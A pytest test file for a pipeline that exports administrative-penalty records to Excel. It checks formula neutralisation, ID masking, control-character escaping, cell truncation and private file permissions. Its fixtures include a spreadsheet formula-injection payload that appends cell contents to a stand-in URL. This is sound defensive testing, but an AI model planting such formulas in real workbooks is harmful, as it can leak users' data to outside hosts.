"""Issue 12 items 4, 6 and 12 through a real ingest and the ``sgs`` commands a user runs.

A department's table holds a 文书号 ``=HYPERLINK(…)`` and a 备注 ``=1+1`` (one row loaded, one quarantined), a
source key that is an ID number and an all-digit 统一社会信用代码. After ``sgs ingest``, ``sgs quarantine
export`` and ``sgs report``: no cell of either workbook is a formula and the text is kept exactly (item 4);
the key's ID number is masked and the credit code is not (item 6); the store, the quality pages and GX results,
the export and the report are owner-only files in owner-only folders (item 12). Two more quarantined rows: control
characters that XLSX (XML 1.0) cannot hold, and a 100 KB 文书号 over Excel's cell limit, reach the export as
visible escapes and a cut value with a marker (item 4/0: the export used to crash or need Excel's repair).
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import os
import stat
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook
from typer.testing import CliRunner

from pipeline.cli import app
from tests.factories import DEPARTMENT_YAML, authority_code, create_penalty_table, penalty_rows

runner = CliRunner()
HYPERLINK = '=HYPERLINK("http://x"&A1,"点此查看")'
HYPERLINK_LOADED = '=HYPERLINK("http://y"&A1,"点此查看")'  # 文书号 is the business key: one per record
PERSON_ID = "330106198502031234"
GOV_USCC = "113301000024713838"  # valid GB 32100 check digit, digits only: looks like an ID number
CONTROL_BZ = "备注空\x01字符\x08\x0b\x0c\x0e\x1b\x1f尾\n换行"  # each class openpyxl refuses (the store turns NUL into U+FFFD), a kept LF
CONTROL_BZ_SHOWN = "备注空\\x01字符\\x08\\x0b\\x0c\\x0e\\x1b\\x1f尾\n换行"
LONG_WSH = "杭市监罚决" + "长" * 100_000


def _mode(p: Path) -> int:
    return stat.S_IMODE(os.stat(p).st_mode)


@pytest.fixture
def usual_umask() -> Iterator[None]:
    """The common default umask (files 0644, folders 0755 unless created explicitly private)."""
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


@pytest.fixture
def hostile_department(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, usual_umask: None) -> Path:
    # The factory's table with a text primary key (an ID number as a department's key) and a 备注 column.
    probe = sa.create_engine("sqlite://")
    with probe.begin() as c:
        base = create_penalty_table(c)
    md = sa.MetaData()
    table = sa.Table(
        "t_xzcf", md, sa.Column("id", sa.String(40), primary_key=True),
        *[sa.Column(c.name, c.type) for c in base.columns if c.name != "id"], sa.Column("bz", sa.Text),
    )
    rows = penalty_rows(8, seed=3, bad_every=0)
    for k, r in enumerate(rows):
        r.update(id=f"K{k}", bz=None)
    # Row 0 passes every error rule (the formula rules only warn): it is loaded, late, and listed in the report.
    rows[0].update(wsh=HYPERLINK_LOADED, bz="=1+1", jdrq=dt.date(2025, 3, 3), yxq=dt.date(2026, 3, 3))
    # Row 5 is quarantined (违法行为类型 missing) and keyed by an ID number; another party, so another record.
    rows[5].update(id=PERSON_ID, wsh=HYPERLINK, bz="=1+1", lb="1", xydm=GOV_USCC, fddbr="李四", zjlx=None, zjhm=None,
                   wfxw=None)
    # Row 6: control characters (CF-CHR-*, and the key); row 7: a 100 KB 文书号 (LOAD-KEY).
    rows[6].update(wsh="杭市监罚决\x1b〔2025〕6号", bz=CONTROL_BZ, ss="事实\x07")
    rows[7].update(wsh=LONG_WSH)
    (tmp_path / "sources").mkdir()
    monkeypatch.setenv("SGS_SOURCE_DATA_DIR", str(tmp_path / "sources"))  # where department SQLite files may be
    src = tmp_path / "sources" / "src.db"
    engine = sa.create_engine(f"sqlite:///{src}")
    with engine.begin() as c:
        md.create_all(c)
        c.execute(table.insert(), rows)
    engine.dispose()
    depts = tmp_path / "departments"
    depts.mkdir()
    text = DEPARTMENT_YAML.format(code="fmlju", env="SGS_SRC_FMLJU_URL", chunk_rows=10, authority=authority_code())
    (depts / "fmlju.yaml").write_text(text.replace("      CF_YXQ: yxq\n", "      CF_YXQ: yxq\n      BZ: bz\n"), encoding="utf-8")
    monkeypatch.setenv("SGS_DEPARTMENTS_DIR", str(depts))
    monkeypatch.setenv("SGS_SRC_FMLJU_URL", f"sqlite:///{src}")
    monkeypatch.setenv("SGS_VAR_DIR", str(tmp_path / "state" / "var"))  # not there yet: created by the run
    monkeypatch.setenv("SGS_STORE_URL", f"sqlite:///{tmp_path / 'store.db'}")
    return tmp_path


def _no_formula(path: Path) -> None:
    """No cell of any sheet is a formula, neither for openpyxl nor in the sheet XML Excel reads."""
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, ws.title, cell.coordinate, cell.value)
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def test_workbooks_keep_formula_text_as_text_mask_keys_and_are_private(hostile_department: Path) -> None:
    tmp = hostile_department
    r = runner.invoke(app, ["ingest", "fmlju"])
    assert r.exit_code == 0, r.stdout + r.stderr

    # -- 问题数据 export (items 4 and 6) --
    out = tmp / "exports" / "feedback.xlsx"
    r = runner.invoke(app, ["quarantine", "export", "fmlju", "--out", str(out)])
    assert r.exit_code == 0, r.stdout + r.stderr
    _no_formula(out)
    ws = load_workbook(out)["行政处罚问题数据"]
    assert ws.max_row == 4  # header + the three quarantined rows
    col = {str(c.value).rsplit("\n", 1)[-1]: c.column for c in ws[1]}
    keyed = {ws.cell(row=i, column=col["源系统主键"]).value: i for i in range(2, 5)}
    assert set(keyed) == {'["330106********1234"]', '["K6"]', '["K7"]'}
    # Control characters are visible escapes; a line break stays a line break (item 4/0).
    hostile = keyed['["K6"]']
    assert ws.cell(row=hostile, column=col["BZ"]).value == CONTROL_BZ_SHOWN
    assert ws.cell(row=hostile, column=col["CF_WSH"]).value == "杭市监罚决\\x1b〔2025〕6号"
    assert ws.cell(row=hostile, column=col["CF_SY"]).value == "事实\\x07"
    # Excel's cell limit: the 100 KB 文书号 keeps its start and says how long it was.
    long_wsh = ws.cell(row=keyed['["K7"]'], column=col["CF_WSH"]).value
    marker = f"…（已截断，共 {len(LONG_WSH)} 个字符）"
    assert len(long_wsh) == 32_767 and long_wsh.endswith(marker) and LONG_WSH.startswith(long_wsh[: -len(marker)])
    assert all(len(str(c.value)) <= 32_767 for row in ws.iter_rows() for c in row)
    person = keyed['["330106********1234"]']
    for code, value in (("CF_WSH", HYPERLINK), ("BZ", "=1+1"), ("CF_XDR_SHXYM", GOV_USCC)):
        cell = ws.cell(row=person, column=col[code])
        assert (cell.value, cell.data_type) == (value, "s"), code
    assert "违反的法律" in ws.cell(row=person, column=4).value or "未填写" in ws.cell(row=person, column=4).value
    cells = [str(c.value) for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c for c in cells if PERSON_ID in c]
    # An --out that is a symlink is refused, not written through (item 12): the target keeps content and mode.
    target = tmp / "someone_elses.txt"
    target.write_text("keep", encoding="utf-8")
    (tmp / "link.xlsx").symlink_to(target)
    r = runner.invoke(app, ["quarantine", "export", "fmlju", "--out", str(tmp / "link.xlsx")])
    assert r.exit_code == 2 and "符号链接" in r.stderr, r.stdout + r.stderr
    assert target.read_text(encoding="utf-8") == "keep" and _mode(target) == 0o644

    # -- assessment workbook: the loaded row is late in 2025-03 (item 4) --
    r = runner.invoke(app, ["report", "--month", "2025-03"])
    assert r.exit_code == 0, r.stdout + r.stderr
    var = tmp / "state" / "var"
    xlsx = var / "reports" / "sgs-assessment-2025-03.xlsx"
    _no_formula(xlsx)
    overdue = load_workbook(xlsx)["逾期记录"]
    wsh = [c for c in overdue["C"][1:] if c.value is not None]
    assert (HYPERLINK_LOADED, "s") in [(c.value, c.data_type) for c in wsh]

    # -- file modes (item 12): folders 0700, files 0600, whatever the umask --
    assert _mode(out) == 0o600 and _mode(out.parent) == 0o700
    assert _mode(tmp / "state") == 0o700 and _mode(var) == 0o700
    written = [p for p in var.rglob("*")]
    assert any(p.suffix == ".json" for p in written) and any(p.name == "index.html" for p in written)
    assert any(p.suffix == ".xlsx" for p in written) and any(p.suffix == ".html" and "assessment" in p.name for p in written)
    wrong = {str(p.relative_to(tmp)): oct(_mode(p)) for p in written if _mode(p) != (0o700 if p.is_dir() else 0o600)}
    assert not wrong
    store_files = [p for p in tmp.glob("store.db*")]
    assert store_files and {p.name: _mode(p) for p in store_files} == {p.name: 0o600 for p in store_files}


def test_sqlite_store_and_its_wal_are_created_private(tmp_path: Path, usual_umask: None) -> None:
    from store.db import make_store_engine, migrate

    db = tmp_path / "fresh.db"
    engine = make_store_engine(f"sqlite:///{db}")
    migrate(engine)
    with engine.connect() as c:  # an open connection keeps the -wal and -shm files
        c.exec_driver_sql("SELECT count(*) FROM sqlite_master").scalar_one()
        side = sorted(p.name for p in tmp_path.glob("fresh.db-*"))
        assert "fresh.db-wal" in side
        assert {p.name: _mode(p) for p in tmp_path.glob("fresh.db*")} == {p.name: 0o600 for p in tmp_path.glob("fresh.db*")}
    engine.dispose()
    # An existing store keeps the mode its operator gave it.
    os.chmod(db, 0o640)
    make_store_engine(f"sqlite:///{db}").dispose()
    assert _mode(db) == 0o640


def test_assessment_workbook_escapes_control_characters_and_cuts_long_cells(sqlite_store: sa.Engine, tmp_path: Path) -> None:
    """reports/render.py goes through the same primitive as the export: pandas' to_excel used to raise."""
    from reports.build import write_report
    from reports.workdays import WorkdayCalendar
    from tests.reports.scenario import AS_OF, DEPTS, build_scenario

    name = "测试\x1b市场\x0c监督管理局" + "长" * 40_000
    depts = {**DEPTS, "aaa": dataclasses.replace(DEPTS["aaa"], name=name)}
    write_report(build_scenario(sqlite_store), "2025-03", tmp_path / "out", departments=depts, as_of=AS_OF,
                 calendar=WorkdayCalendar({}))
    xlsx = tmp_path / "out" / "sgs-assessment-2025-03.xlsx"
    _no_formula(xlsx)
    names = [c.value for c in load_workbook(xlsx)["本月指标"]["A"][1:]]
    shown = [n for n in names if isinstance(n, str) and n.startswith("测试\\x1b市场\\x0c监督管理局长")]
    assert shown and all(len(n) == 32_767 and n.endswith(f"…（已截断，共 {len(name)} 个字符）") for n in shown)
